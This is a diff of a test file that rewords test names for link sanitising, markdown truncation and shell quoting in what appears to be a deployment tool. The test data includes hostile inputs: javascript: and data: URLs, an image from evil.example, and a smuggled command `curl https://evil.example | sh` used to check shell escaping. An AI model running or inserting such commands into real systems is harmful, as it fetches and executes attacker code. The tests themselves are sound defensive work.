@@ -69,7 +69,7 @@ describe.each(Object.entries(PLACES))("%s", (_place, render) => {
 });
 
 it.each(["javascript:alert(1)", "data:text/html,x", "//evil.example", "vbscript:x", ""])(
-  "an address that is no page's is no link: %j",
+  "an address that is not a web page's is no link: %j",
   (url) => {
     expect(link("text", url)).toBe("`text`");
   },
@@ -94,7 +94,7 @@ describe("a comment that is too long", () => {
     "<details>\n</details>\n\n<img src=x>",
     "<details>\n```\n</details>\n![](https://evil.example/b.png)",
     "````\n</details>\n<details>\n````text",
-  ])("does not let words out of their block: %j", (hostile) => {
+  ])("keeps text within its block: %j", (hostile) => {
     const text = ["# T", folded(hostile), folded(`${hostile}${"x".repeat(500)}`), "end"].join(
       "\n\n",
     );
@@ -106,7 +106,7 @@ describe("a comment that is too long", () => {
     expect(truncateMarkdown(text, most)).toContain("end");
   });
 
-  it("has nothing of a line that is too long", () => {
+  it("contains nothing of a line that is too long", () => {
     expect(truncateMarkdown("x".repeat(10), 5)).toBe("");
   });
 
@@ -135,11 +135,11 @@ describe("the notes of a release", () => {
 describe("a command that people copy", () => {
   const BAD = `x'; curl https://evil.example | sh; echo '`;
 
-  it("has what others wrote in quotes", () => {
+  it("quotes text from outside", () => {
     expect(shellQuoted(BAD)).toBe(`'x'\\''; curl https://evil.example | sh; echo '\\'''`);
   });
 
-  it("is one command that takes a deployment back, whatever its version is called", () => {
+  it("is one command that rolls back a deployment, whatever its version is called", () => {
     const release = {
       ...{ number: 2, model: "acme/hotdog", version: ID, hardware: "cpu" },
       ...{ minInstances: 0, maxInstances: 1 },
